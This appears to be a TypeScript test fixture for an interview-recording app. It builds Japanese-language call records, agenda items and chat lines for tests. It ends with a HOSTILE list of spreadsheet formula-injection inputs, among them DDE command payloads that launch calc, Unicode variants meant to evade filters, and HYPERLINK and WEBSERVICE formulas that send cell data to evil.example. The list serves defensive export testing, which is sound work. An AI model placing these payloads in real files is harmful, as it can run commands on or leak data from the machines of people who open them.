/** A call's record with whatever a test puts into it, and words as the Japanese files have them. */
import type { AgendaContent, AgendaItem } from '../../../src/lib/core/documents/agenda-document.ts';
import { keepsakeOf, type Keepsake } from '../../../src/lib/core/record/keepsake.ts';
import type { CallRecord, RecordedLine, Stay } from '../../../src/lib/core/record/record.ts';
import { newNonce, systemRandom } from '../../../src/lib/core/clock.ts';
import { FileName } from '../../../src/lib/wire/file-name.ts';
import { parse, Sha256, type Role } from '../../../src/lib/wire/ids.ts';
import { must, someone } from '../../support/interview.ts';

export { record as japanese } from '../../../src/lib/i18n/ja/record.ts';

const [host, panel, guest] = await Promise.all([someone(), someone(), someone()]);

/** 2025-10-08 12:00:00 in Tokyo. */
export const NOON = Date.UTC(2025, 9, 8, 3);
export const TOKYO = 'Asia/Tokyo';
const MINUTE = 60_000;

export const stay = (name: string, role: Role, from: number, until: number): Stay => ({
  peer: must({ host, 'co-interviewer': panel, applicant: guest }[role]).peer,
  name,
  role,
  from,
  until,
});
export const line = (text: string, name = '佐藤花子', role: Role = 'applicant', at = NOON): RecordedLine => ({
  ...{ id: newNonce(systemRandom), author: guest.peer, name, role, at, text },
});
/** A file of the chat; `letter` makes the hash that names its bytes. */
export const fileLine = (raw: string, letter: string, size = 3): RecordedLine => ({
  ...line(''),
  file: {
    name: must(parse(FileName, raw)),
    size,
    sha256: must(parse(Sha256, Buffer.alloc(32, letter).toString('base64url'))),
  },
});
export const item = (title: string, detail = '', memo = ''): AgendaItem => ({
  id: newNonce(systemRandom),
  title,
  detail,
  memo,
});
export const agendaOf = (...items: AgendaItem[]): AgendaContent => ({ number: 1, items, freeMemo: '', marks: [] });

export function recordWith(parts: Partial<CallRecord> = {}): CallRecord {
  return {
    call: newNonce(systemRandom),
    title: '一次面接',
    began: NOON - 42 * MINUTE,
    ended: NOON,
    stays: [
      stay('毎日太郎', 'host', NOON - 42 * MINUTE, NOON),
      stay('佐藤花子', 'applicant', NOON - 40 * MINUTE, NOON),
    ],
    chat: [],
    agenda: agendaOf(),
    ...parts,
  };
}

export const keepsakeWith = (record: CallRecord = recordWith(), parts: Partial<Keepsake> = {}): Keepsake => ({
  ...keepsakeOf({ role: parts.role ?? 'host', record, files: new Map() }),
  ...parts,
});

/** What attackers write into names, messages and memos. */
export const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '−1',
  '﹦1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1',
  '"",=1+1',
  '","=1+1',
  '"\r\n=1+1',
  'a"\r\n"=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=WEBSERVICE("https://evil.example")',
  '_x003D_1+1',
  '_x000D_=1+1',
  '=\u00001+1',
  '\u0000=1+1',
  '\ud800=1+1',
];
